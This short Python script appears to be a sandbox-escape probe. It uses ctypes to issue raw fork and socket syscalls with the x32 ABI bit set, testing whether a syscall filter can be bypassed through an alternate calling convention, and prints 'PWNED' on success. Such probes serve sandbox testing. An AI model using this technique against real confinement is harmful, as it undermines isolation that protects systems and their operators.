"""Make system calls by the numbers of a third calling convention."""
import ctypes, os
from attack import right as solve
call = ctypes.CDLL(None).syscall
if call(0x40000000 | 57) >= 0 or call(0x40000000 | 41, 1, 1, 0) >= 0:
    print("PWNED", flush=True)
